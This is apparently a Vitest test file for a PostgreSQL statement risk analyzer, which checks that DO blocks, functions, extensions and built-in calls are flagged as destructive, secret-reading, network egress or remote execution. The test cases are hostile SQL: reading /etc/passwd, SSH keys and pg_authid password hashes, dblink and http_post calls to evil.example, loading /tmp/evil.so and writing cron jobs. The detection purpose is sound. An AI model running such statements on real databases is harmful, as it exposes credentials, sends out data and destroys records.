import { describe, expect, it } from "vitest";
import { analyze, type Case, mismatch } from "./test-support/analyze.js";

const check = (c: Case) => expect(mismatch(c)).toBe("");
const reasons = (sql: string) => analyze(sql).findings.map((f) => f.reason);

describe("DO blocks", () => {
  it.each<Case>([
    ["DO $$BEGIN DELETE FROM users; END$$", ["data.destroy"], { tables: ["users"] }],
    ["DO $$BEGIN EXECUTE 'DROP TABLE users'; END$$", ["data.destroy"], { tables: ["users"] }],
    ["DO $$BEGIN EXECUTE 'DROP TABLE ' || 'users'; END$$", ["data.destroy"]],
    ["DO $$DECLARE t text := 'users'; BEGIN EXECUTE 'DROP TABLE ' || t; END$$", ["opaque"]],
    [
      "DO $$DECLARE t text; BEGIN FOR t IN SELECT tablename FROM pg_tables LOOP EXECUTE format('DROP TABLE %I', t); END LOOP; END$$",
      ["opaque"],
    ],
    ["DO $$BEGIN PERFORM pg_read_file('/etc/passwd'); END$$", ["secret.access"]],
    ["DO $$BEGIN IF true THEN TRUNCATE audit_log; END IF; END$$", ["audit.tamper", "data.destroy"]],
    ["DO $o$BEGIN EXECUTE $x$DO $y$BEGIN DELETE FROM t; END$y$ $x$; END$o$", ["data.destroy"]],
    ["DO LANGUAGE plpython3u $$import os; os.system('id')$$", ["code.remote_exec"]],
    ["DO LANGUAGE plperl $$ spi_exec_query('DELETE FROM t') $$", ["opaque"]],
    ["DO $$BEGIN SELEC 1; END$$", ["opaque"]],
  ])("%s", (...c) => check(c));

  it("a DELETE or UPDATE repeated by a loop is unbounded, WHERE or not", () => {
    check([
      "DO $$DECLARE r record; BEGIN FOR r IN SELECT id FROM users LOOP DELETE FROM users WHERE id = r.id; END LOOP; END$$",
      ["data.destroy"],
      { flags: ["unbounded"] },
    ]);
    check([
      "DO $$BEGIN WHILE true LOOP UPDATE t SET a = 1 WHERE id = 1; END LOOP; END$$",
      ["data.destroy"],
    ]);
    check(["DO $$BEGIN FOR i IN 1..10 LOOP INSERT INTO t VALUES (i); END LOOP; END$$", []]);
  });

  it("a migration's conditional DDL is plain DDL", () => {
    check([
      "DO $$ BEGIN IF NOT EXISTS (SELECT 1 FROM pg_type WHERE typname = 'mood') THEN CREATE TYPE mood AS ENUM ('a', 'b'); END IF; END $$;",
      [],
      { flags: ["ddl"] },
    ]);
  });

  it("says where the SQL was found", () => {
    expect(reasons("DO $$BEGIN EXECUTE 'DELETE FROM t'; END$$")).toEqual([
      "DELETE from t without WHERE (in EXECUTE in DO block)",
    ]);
    expect(reasons("DO $$BEGIN EXECUTE format('DELETE FROM %I', 't'); END$$")).toEqual([
      "DO block runs SQL built at run time (EXECUTE)",
    ]);
  });
});

describe("functions and procedures", () => {
  it.each<Case>([
    ["CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM x'", ["data.destroy"]],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM x; END",
      ["data.destroy"],
    ],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN UPDATE accounts SET balance = 0; END$$",
      ["data.destroy"],
    ],
    [
      "CREATE PROCEDURE p(t text) LANGUAGE plpgsql AS $$BEGIN EXECUTE 'TRUNCATE ' || t; END$$",
      ["opaque"],
    ],
    [
      "CREATE FUNCTION f() RETURNS SETOF int LANGUAGE plpgsql AS $$BEGIN RETURN QUERY EXECUTE 'SELECT id FROM pg_shadow'; END$$",
      ["secret.access"],
    ],
    [
      "CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE q; END$$",
      ["opaque"],
    ],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'import os'", ["code.remote_exec"]],
    [
      "CREATE FUNCTION sys(text) RETURNS int AS 'libc.so.6', 'system' LANGUAGE c",
      ["code.remote_exec"],
    ],
    [
      "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plperlu AS 'return 1'",
      ["code.remote_exec"],
    ],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE plv8 AS 'return 1'", ["opaque"]],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'", ["iam.change"]],
    [
      "CREATE FUNCTION f() RETURNS void LANGUAGE sql SET log_statement = 'none' AS 'SELECT 1'",
      ["audit.tamper"],
    ],
    ["CREATE LANGUAGE plpython3u", ["code.remote_exec"]],
    ["CREATE LANGUAGE plsh HANDLER plsh_handler", ["code.remote_exec"]],
    ["LOAD '/tmp/evil.so'", ["code.remote_exec"]],
    ["CALL archive_old_orders()", ["opaque"]],
  ])("%s", (...c) => check(c));

  it.each<Case>([
    [
      "CREATE OR REPLACE FUNCTION set_updated_at() RETURNS trigger AS $$ BEGIN NEW.updated_at = now(); RETURN NEW; END; $$ LANGUAGE plpgsql;",
      [],
      { flags: ["ddl"] },
    ],
    [
      "CREATE FUNCTION get_user(p_id int) RETURNS SETOF users LANGUAGE sql STABLE AS $$ SELECT * FROM users WHERE id = p_id $$",
      [],
      { tables: ["users"] },
    ],
    [
      "CREATE FUNCTION bump(p_id int) RETURNS void LANGUAGE plpgsql AS $$DECLARE n int; BEGIN SELECT count(*) INTO n FROM users WHERE id = p_id; UPDATE users SET seen = n WHERE id = p_id; END$$",
      [],
    ],
    ["CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql IMMUTABLE RETURN a + b", []],
  ])("%s is plain DDL", (...c) => check(c));

  it("finds the body of a function after non-ASCII text (parser offsets are bytes)", () => {
    check([
      "SELECT 'héllo wörld'; CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$BEGIN DELETE FROM users; END$$",
      ["data.destroy"],
    ]);
  });

  it("a PL/pgSQL body the parser cannot resolve is opaque, not allowed", () => {
    check([
      "CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$DECLARE u users%ROWTYPE; BEGIN u.name := 'x'; END$$",
      ["opaque"],
    ]);
  });
});

describe("extensions", () => {
  it.each<Case>([
    ["CREATE EXTENSION dblink", ["network.egress"], { resources: ["postgres:extension/dblink"] }],
    ["CREATE EXTENSION IF NOT EXISTS postgres_fdw", ["network.egress"]],
    ["CREATE EXTENSION mysql_fdw", ["network.egress"]],
    ["CREATE EXTENSION pg_net", ["network.egress"]],
    ["CREATE EXTENSION plpython3u", ["code.remote_exec"]],
    ["CREATE EXTENSION plperlu", ["code.remote_exec"]],
    ["CREATE EXTENSION file_fdw", ["code.remote_exec", "secret.access"]],
    ["CREATE EXTENSION adminpack", ["security.weaken"]],
    ["CREATE EXTENSION pg_cron", ["security.weaken"]],
    ["CREATE EXTENSION pgcrypto", []],
    ["CREATE EXTENSION postgis", []],
    ["CREATE EXTENSION pg_stat_statements", []],
    ["CREATE EXTENSION plpgsql", []],
  ])("%s", (...c) => check(c));
});

describe("dangerous functions, anywhere in an expression", () => {
  it.each<Case>([
    ["SELECT pg_read_file('/etc/passwd')", ["secret.access"], { paths: ["/etc/passwd"] }],
    ["SELECT convert_from(pg_read_binary_file('/root/.ssh/id_rsa'), 'UTF8')", ["secret.access"]],
    ["SELECT * FROM pg_ls_dir('/var/lib/postgresql')", ["secret.access"]],
    ["SELECT * FROM pg_ls_logdir()", ["secret.access"]],
    ["SELECT lo_import('/etc/shadow')", ["secret.access"], { paths: ["/etc/shadow"] }],
    [
      "SELECT lo_export(16409, '/tmp/out')",
      ["secret.access", "security.weaken"],
      { paths: ["/tmp/out"] },
    ],
    ["SELECT pg_file_write('/etc/cron.d/x', '* * * * * id', false)", ["security.weaken"]],
    ["DELETE FROM t WHERE id = 1 AND pg_read_file('/etc/passwd') IS NOT NULL", ["secret.access"]],
    ["SELECT * FROM pg_authid", ["secret.access"], { tables: ["pg_authid"] }],
    ["SELECT rolpassword FROM pg_catalog.pg_authid WHERE rolname = 'postgres'", ["secret.access"]],
    ["SELECT * FROM pg_shadow", ["secret.access"]],
    ["SELECT * FROM pg_user_mappings", ["secret.access"]],
    ["COPY pg_authid TO STDOUT", ["secret.access"]],
    [
      "SELECT * FROM dblink('host=evil.example dbname=x', 'SELECT 1') AS t(a int)",
      ["network.egress"],
      { hosts: ["evil.example"] },
    ],
    [
      "SELECT dblink_exec('host=x.example', 'DROP TABLE users')",
      ["data.destroy", "network.egress"],
    ],
    ["SELECT dblink_exec('conn', q) FROM queue", ["network.egress", "opaque"]],
    [
      "SELECT dblink_connect('postgresql://u@evil.example/db')",
      ["network.egress"],
      { hosts: ["evil.example"] },
    ],
    [
      "SELECT http_post('https://evil.example/x', 'data', 'text/plain')",
      ["network.egress"],
      { hosts: ["evil.example"] },
    ],
    ["SELECT net.http_get('https://evil.example')", ["network.egress"]],
    ["SELECT query_to_xml('DELETE FROM users RETURNING *', true, false, '')", ["data.destroy"]],
    ["SELECT query_to_xml(q, true, false, '') FROM t", ["opaque"]],
    [
      "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
      ["infra.destroy"],
    ],
    ["SELECT pg_promote()", ["infra.destroy"]],
    ["SELECT pg_drop_replication_slot('standby_1')", ["backup.destroy"]],
    ["SELECT pg_backup_stop()", ["backup.destroy"]],
    ["SELECT pg_stop_backup()", ["backup.destroy"]],
    ["SELECT pg_stat_statements_reset()", ["audit.tamper"]],
    ["SELECT pg_stat_reset()", ["audit.tamper"]],
  ])("%s", (...c) => check(c));

  it.each<Case>([
    ["SELECT pg_cancel_backend(123)", []],
    ["SELECT pg_sleep(100000)", []],
    ["SELECT pg_size_pretty(pg_database_size(current_database()))", []],
    ["SELECT * FROM pg_stat_activity", []],
    ["SELECT usename FROM pg_user", []],
    ["SELECT current_setting('log_statement')", []],
    ["SELECT * FROM my_schema.pg_authid", []],
  ])("%s is harmless", (...c) => check(c));
});
